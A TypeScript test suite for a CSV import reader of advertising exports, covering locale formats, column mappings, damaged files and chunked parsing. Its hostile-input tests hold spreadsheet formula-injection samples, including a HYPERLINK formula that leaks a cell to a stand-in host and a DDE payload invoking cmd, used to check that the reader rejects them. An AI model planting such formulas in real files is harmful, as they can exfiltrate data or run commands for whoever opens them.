/**
 * Generated exports: the quirks of SOURCES.md in other combinations, a generic CSV through a
 * mapping, and the bad cases — corrupt, truncated, wrong encoding, hostile, huge and empty.
 */
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { prepareText, tokenize } from './csv'
import { emptyMapping, importMappingSchema, type ImportMapping } from './mapping'
import { planImport } from './plan'
import { readExport, readExportInChunks, type ParsedExport, type ReadResult } from './read'
import type { Progress } from './csv'

const CLIENT = '6f1c2a4e-8d3b-4c5a-9e7f-0a1b2c3d4e5f'
const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text)

function ok(result: ReadResult): ParsedExport {
  if (!result.ok) throw new Error(`expected a parsed export, got ${JSON.stringify(result.error)}`)
  return result.export
}

function drain<T>(steps: Generator<Progress, T, void>): T {
  for (;;) {
    const step = steps.next()
    if (step.done) return step.value
  }
}

/** A Finnish agency's own spreadsheet: semicolons, decimal commas, dotted dates, NBSP grouping. */
const FINNISH_MAPPING: ImportMapping = {
  ...emptyMapping(),
  columns: [
    { header: 'Päivä', role: { kind: 'date' } },
    { header: 'Kampanja', role: { kind: 'campaign' } },
    { header: 'Kulut', role: { kind: 'metric', metric: 'spend' } },
    { header: 'Näytöt', role: { kind: 'metric', metric: 'impressions' } },
    { header: 'Klikkaukset', role: { kind: 'metric', metric: 'clicks' } },
    { header: 'Tilaajat', role: { kind: 'custom', key: 'subscribers' } },
  ],
  channel: 'tiktok',
  currency: 'EUR',
}

const FINNISH = [
  'Raportti;;;;;',
  'Päivä;Kampanja;Kulut;Näytöt;Klikkaukset;Tilaajat',
  '30.01.2026;Talvi;1\u00a0234,56 €;12\u00a0000;120;5',
  '31.01.2026;Talvi;100,00 €;1\u00a0000;--;6',
  '01.02.2026;Talvi;"2,5";1\u00a0000;10;7',
  '01.02.2026;Kevät;0,50;—;1;',
  'Yhteensä;;1\u00a0337,56;14\u00a0000;131;',
].join('\r\n')

describe('a generic CSV through a mapping', () => {
  it('reads semicolons, decimal commas, no-break-space grouping and dotted dates', () => {
    const file = ok(readExport(utf8(FINNISH), { mapping: FINNISH_MAPPING }))
    expect(file).toMatchObject({ source: 'generic', delimiter: ';', decimalSeparator: ',', headerRow: 2 })
    expect(
      file.rows.map((row) => [row.row, row.period?.from, row.campaignName, row.metrics, row.custom]),
    ).toEqual([
      [3, '2026-01-30', 'Talvi', { spendMinor: 123456, impressions: 12000, clicks: 120 }, { subscribers: 5 }],
      [4, '2026-01-31', 'Talvi', { spendMinor: 10000, impressions: 1000, clicks: null }, { subscribers: 6 }],
      [5, '2026-02-01', 'Talvi', { spendMinor: 250, impressions: 1000, clicks: 10 }, { subscribers: 7 }],
      [6, '2026-02-01', 'Kevät', { spendMinor: 50, impressions: null, clicks: 1 }, { subscribers: null }],
    ])
    expect(file.totals).toMatchObject([
      { row: 7, label: 'Yhteensä', metrics: { spendMinor: 133756, impressions: 14000, clicks: 131 } },
    ])
    expect(file.warnings).toEqual([])
  })

  it('sums daily rows into months per channel and campaign', () => {
    const file = ok(readExport(utf8(FINNISH), { mapping: FINNISH_MAPPING }))
    const plan = planImport(file.rows, [], {
      clientId: CLIENT,
      currency: 'EUR',
      customAggregation: { subscribers: 'last' },
    })
    expect(
      plan.months.map((month) => [
        month.month,
        month.campaignName,
        month.input.spendMinor,
        month.input.clicks,
        month.input.custom,
      ]),
    ).toEqual([
      ['2026-01', null, 133456, 120, { subscribers: 6 }],
      ['2026-01', 'Talvi', 133456, 120, { subscribers: 6 }],
      ['2026-02', null, 300, 11, { subscribers: 7 }],
      ['2026-02', 'Kevät', 50, 1, {}],
      ['2026-02', 'Talvi', 250, 10, { subscribers: 7 }],
    ])
    expect(
      plan.months.every((month) => month.input.channel === 'tiktok' && month.input.source === 'import'),
    ).toBe(true)
  })

  it('is plain data that survives JSON and matches a reordered file by header name', () => {
    const saved = importMappingSchema.parse(JSON.parse(JSON.stringify(FINNISH_MAPPING)))
    expect(saved).toEqual(FINNISH_MAPPING)
    const reordered =
      'Klikkaukset\tKulut\tKAMPANJA\tpäivä\tNäytöt\tTilaajat\n7\t1,00\tTalvi\t02.03.2026\t70\t1\n'
    const file = ok(readExport(utf8(reordered), { mapping: saved }))
    expect(file.rows[0]).toMatchObject({
      campaignName: 'Talvi',
      period: { from: '2026-03-02' },
      metrics: { spendMinor: 100, clicks: 7 },
    })
  })

  it('names the mapped column a file lacks, and asks for a metric and a channel', () => {
    expect(readExport(utf8('Päivä;Kampanja;Kulut\n01.01.2026;A;1\n'), { mapping: FINNISH_MAPPING })).toEqual({
      ok: false,
      error: { code: 'mapping-column-missing', header: 'Näytöt' },
    })
    const noMetric: ImportMapping = {
      ...emptyMapping(),
      channel: 'seo',
      columns: [{ header: 'Day', role: { kind: 'date' } }],
    }
    expect(readExport(utf8('Day,Visits\n2026-01-01,5\n'), { mapping: noMetric })).toEqual({
      ok: false,
      error: { code: 'mapping-incomplete', missing: 'metric' },
    })
    const noChannel: ImportMapping = {
      ...emptyMapping(),
      columns: [{ header: 'Visits', role: { kind: 'metric', metric: 'clicks' } }],
    }
    expect(readExport(utf8('Day,Visits\n2026-01-01,5\n'), { mapping: noChannel })).toEqual({
      ok: false,
      error: { code: 'mapping-incomplete', missing: 'channel' },
    })
  })

  it('reads the channel from a column', () => {
    const mapping: ImportMapping = {
      ...emptyMapping(),
      columns: [
        { header: 'Month', role: { kind: 'date' } },
        { header: 'Source', role: { kind: 'channel' } },
        { header: 'Spend', role: { kind: 'metric', metric: 'spend' } },
      ],
      channelValues: { newsletter: 'email' },
      currency: 'EUR',
    }
    const file = ok(
      readExport(
        utf8(
          'Month,Source,Spend\nJan 2026,Facebook,1\nJan 2026,Google Ads,2\nJan 2026,Newsletter,3\nJan 2026,Fax,4\n',
        ),
        { mapping },
      ),
    )
    expect(file.rows.map((row) => row.channel)).toEqual(['meta', 'google-ads', 'email'])
    expect(file.rejected).toEqual([{ code: 'unknown-channel', row: 5, text: 'Fax' }])
  })

  it('asks for the date format when day and month cannot be told apart, and uses the one chosen', () => {
    const text = 'Date,Campaign,Spend\n01/02/2026,A,1\n03/04/2026,A,2\n'
    const mapping: ImportMapping = {
      ...emptyMapping(),
      columns: [
        { header: 'Date', role: { kind: 'date' } },
        { header: 'Campaign', role: { kind: 'campaign' } },
        { header: 'Spend', role: { kind: 'metric', metric: 'spend' } },
      ],
      channel: 'meta',
    }
    expect(readExport(utf8(text), { mapping })).toEqual({
      ok: false,
      error: { code: 'date-order-ambiguous', column: 'Date', example: '01/02/2026' },
    })
    const dayFirst = ok(readExport(utf8(text), { mapping: { ...mapping, dateOrder: 'dmy' } }))
    expect(dayFirst.rows.map((row) => row.period?.from)).toEqual(['2026-02-01', '2026-04-03'])
    const monthFirst = ok(readExport(utf8(`${text}12/25/2026,A,3\n`), { mapping }))
    expect(monthFirst.dateOrder).toBe('mdy')
    expect(monthFirst.rows.map((row) => row.period?.from)).toEqual(['2026-01-02', '2026-03-04', '2026-12-25'])
  })

  it('honours an Excel sep= line and skips comment and blank rows', () => {
    const text =
      'sep=;\n# exported by hand\nDay;Campaign;Cost;Impr.;Currency code\n\n2026-01-05;A;1,5;10;EUR\n# note\n'
    const file = ok(readExport(utf8(text)))
    expect(file).toMatchObject({ source: 'google-ads', delimiter: ';', headerRow: 3 })
    expect(file.rows).toHaveLength(1)
    expect(file.rows[0]).toMatchObject({ row: 5, metrics: { spendMinor: 150, impressions: 10 } })
  })
})

describe('hostile input', () => {
  const header = 'Campaign,Day,Currency code,Cost,Impr.,Clicks'
  const hostile = [
    header,
    'Brand,2026-01-05,EUR,10.00,100,10',
    '"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",2026-01-05,EUR,5.00,50,5',
    '+SUM(1+1),2026-01-05,EUR,1.00,1,1',
    '"-2+3+cmd|\' /C calc\'!A0",2026-01-05,EUR,1.00,1,1',
    '@SUM(A1:A9),2026-01-05,EUR,1.00,1,1',
    '-20% Sale,2026-01-05,EUR,2.00,20,2',
    '\t=1+1,2026-01-05,EUR,1.00,1,1',
  ].join('\n')

  it('rejects formula cells in names and neutralises names that only start like one', () => {
    const file = ok(readExport(utf8(hostile)))
    expect(file.rejected).toEqual([
      {
        code: 'formula-injection',
        row: 3,
        column: 'Campaign',
        text: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      },
      { code: 'formula-injection', row: 4, column: 'Campaign', text: '+SUM(1+1)' },
      { code: 'formula-injection', row: 5, column: 'Campaign', text: "-2+3+cmd|' /C calc'!A0" },
      { code: 'formula-injection', row: 6, column: 'Campaign', text: '@SUM(A1:A9)' },
      { code: 'formula-injection', row: 8, column: 'Campaign', text: '=1+1' },
    ])
    expect(file.warnings).toEqual([
      { code: 'formula-neutralised', row: 7, column: 'Campaign', text: '-20% Sale' },
    ])
    expect(file.rows.map((row) => row.campaignName)).toEqual(['Brand', "'-20% Sale"])
  })

  it('writes nothing from the hostile rows', () => {
    const file = ok(readExport(utf8(hostile)))
    const plan = planImport(file.rows, [], { clientId: CLIENT, currency: 'EUR' })
    const written = JSON.stringify(plan.months.map((month) => month.input))
    expect(written).not.toMatch(/HYPERLINK|SUM\(|cmd\||"=/)
    expect(plan.months.find((month) => month.campaignName === null)?.input.spendMinor).toBe(1200)
  })

  it('rejects absurdly long names instead of storing them', () => {
    const file = ok(
      readExport(
        utf8(`${header}\n${'x'.repeat(5000)},2026-01-05,EUR,1.00,1,1\nOk,2026-01-05,EUR,1.00,1,1\n`),
      ),
    )
    expect(file.rejected).toEqual([
      { code: 'text-too-long', row: 2, column: 'Campaign', length: 5000, max: 499 },
    ])
    expect(file.rows).toHaveLength(1)
  })

  it('rejects rows with unreadable or negative numbers and repeated rows, keeping the rest', () => {
    const text = [
      header,
      'A,2026-01-05,EUR,abc,1,1',
      'B,2026-01-05,EUR,-5.00,1,1',
      'C,2026-01-05,EUR,1.00,1,1',
      'C,2026-01-05,EUR,1.00,1,1',
      'D,2026-02-30,EUR,1.00,1,1',
      'E,2026-01-05',
      'F,2026-01-05,EUR,1.00,1,1',
    ].join('\n')
    const file = ok(readExport(utf8(`${text}\n`)))
    expect(file.rejected).toEqual([
      { code: 'invalid-number', row: 2, column: 'Cost', text: 'abc' },
      { code: 'negative-value', row: 3, column: 'Cost', text: '-5.00' },
      { code: 'duplicate-row', row: 5, sameAs: 4 },
      { code: 'invalid-date', row: 6, column: 'Day', text: '2026-02-30' },
      { code: 'row-incomplete', row: 7, column: 'Currency code' },
    ])
    expect(file.rows.map((row) => row.campaignName)).toEqual(['C', 'F'])
    expect(file.dataRowCount).toBe(7)
  })
})

describe('bad files', () => {
  const good = 'Campaign,Day,Currency code,Cost,Impr.\nA,2026-01-05,EUR,1.00,10\nB,2026-01-06,EUR,2.00,20\n'

  it.each([
    ['an empty file', '', { code: 'no-data', reason: 'empty-file', note: null }],
    ['only whitespace', ' \r\n\t\n', { code: 'no-data', reason: 'empty-file', note: null }],
    [
      'a header and nothing else',
      'Campaign,Day,Currency code,Cost,Impr.\n',
      { code: 'no-data', reason: 'no-rows', note: null },
    ],
    [
      'only totals',
      'Campaign,Currency code,Cost,Impr.\nTotal: Campaigns,EUR,0.00,0\n',
      { code: 'no-data', reason: 'no-rows', note: null },
    ],
    [
      'only title lines',
      'Ad Performance Report (in UTC)\n"Report Start: August 18, 2019, 12:00 AM"\n\n',
      { code: 'no-data', reason: 'preamble-only', note: null },
    ],
    ['a table nobody knows', 'foo,bar\n1,2\n', { code: 'header-not-found' }],
  ])('%s: says so', (_name, text, error) => {
    expect(readExport(utf8(text))).toEqual({ ok: false, error })
  })

  it('calls a file cut off mid-row truncated', () => {
    const cut = good.slice(0, good.lastIndexOf(',2.00'))
    expect(readExport(utf8(cut))).toEqual({ ok: false, error: { code: 'truncated', row: 3 } })
  })

  it('calls a file cut off inside a quoted cell damaged', () => {
    const text = 'Campaign,Day,Currency code,Cost,Impr.\nA,2026-01-05,EUR,1.00,10\n"B, the sec'
    expect(readExport(utf8(text))).toEqual({ ok: false, error: { code: 'unterminated-quote', row: 3 } })
  })

  it('refuses a spreadsheet workbook and a file in another encoding', () => {
    expect(readExport(new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0, 0, 0, 0]))).toEqual({
      ok: false,
      error: { code: 'binary-file', kind: 'xlsx-or-zip' },
    })
    const latin1 = new Uint8Array(
      Array.from('Campanha,Custo\nRelat\u00f3rio,1\n', (char) => char.charCodeAt(0)),
    )
    expect(readExport(latin1)).toMatchObject({ ok: false, error: { code: 'undecodable', encoding: 'utf-8' } })
  })

  it('refuses random bytes', () => {
    fc.assert(
      fc.property(fc.uint8Array({ minLength: 64, maxLength: 512 }), (bytes) => {
        const result = readExport(bytes)
        // Whatever the bytes are, reading ends with a result, never an exception.
        expect(typeof result.ok).toBe('boolean')
      }),
      { numRuns: 200 },
    )
  })
})

describe('chunked reading', () => {
  it('gives the same records whatever the chunk size, quotes and line breaks included', () => {
    const cell = fc.oneof(
      fc.string({ maxLength: 6 }).map((text) => text.replace(/[",\n\r]/g, '')),
      fc.string({ maxLength: 6 }).map((text) => `"${text.replace(/"/g, '""')}"`),
      fc.constantFrom('"a\nb"', '"x,y"', '""', '"q""q"'),
    )
    const csv = fc
      .array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 12 })
      .map((rows) => rows.map((row) => row.join(',')).join('\n'))
    fc.assert(
      fc.property(csv, fc.integer({ min: 1, max: 40 }), (text, chunk) => {
        const body = prepareText(text).body
        const whole = drain(tokenize(body, ',', 1_000_000))
        const chunked = drain(tokenize(body, ',', chunk))
        expect(chunked).toEqual(whole)
      }),
    )
  })

  it('reads 100 000 daily rows in chunks, reports progress and sums them into months', async () => {
    const lines = ['Campaign,Day,Currency code,Cost,Impr.,Clicks,Conversions']
    const campaigns = ['Brand', 'Generic', 'Competitors', 'Remarketing']
    let day = Date.UTC(2024, 0, 1)
    for (let index = 0; index < 100_000; index++) {
      if (index > 0 && index % campaigns.length === 0) day += 86_400_000
      const date = new Date(day).toISOString().slice(0, 10)
      lines.push(`"${campaigns[index % campaigns.length]}",${date},EUR,"1,234.56",1000,10,1`)
    }
    lines.push('Total: Campaigns, --,EUR,"123,456,000.00","100,000,000","1,000,000","100,000"')
    const bytes = utf8(lines.join('\n'))
    const progress: Progress[] = []
    const result = await readExportInChunks(bytes, {
      onProgress: (step) => progress.push(step),
      chunkChars: 64 * 1024,
    })
    const file = ok(result as ReadResult)
    expect(file.rows).toHaveLength(100_000)
    expect(file.totals).toHaveLength(1)
    expect(file.warnings).toEqual([])
    // Progress is reported many times, never goes backwards, and parsing reaches the end.
    const parse = progress.filter((step) => step.phase === 'parse')
    expect(parse.length).toBeGreaterThan(10)
    expect(parse.every((step, index) => index === 0 || step.done >= (parse[index - 1]?.done ?? 0))).toBe(true)
    expect(progress.filter((step) => step.phase === 'rows').at(-1)).toEqual({
      phase: 'rows',
      done: 100_000,
      total: 100_001,
    })

    const plan = planImport(file.rows, [], { clientId: CLIENT, currency: 'EUR' })
    const totals = plan.months.filter((month) => month.campaignName === null)
    const first = totals[0]
    // January 2024: 31 days × 4 campaigns × €1,234.56.
    expect(first?.input).toMatchObject({
      month: '2024-01',
      spendMinor: 31 * 4 * 123_456,
      clicks: 31 * 4 * 10,
    })
    expect(totals.reduce((sum, month) => sum + (month.input.spendMinor ?? 0), 0)).toBe(100_000 * 123_456)
    // A guard against hanging on a machine shared with other jobs, not a speed requirement.
  }, 300_000)

  it('stops between chunks when asked', async () => {
    const text = `Campaign,Day,Currency code,Cost\n${'A,2026-01-01,EUR,1\n'.repeat(5000)}`
    const signal = { aborted: false }
    const result = await readExportInChunks(utf8(text), {
      chunkChars: 1024,
      signal,
      onProgress: () => {
        signal.aborted = true
      },
    })
    expect(result).toBeNull()
  })
})
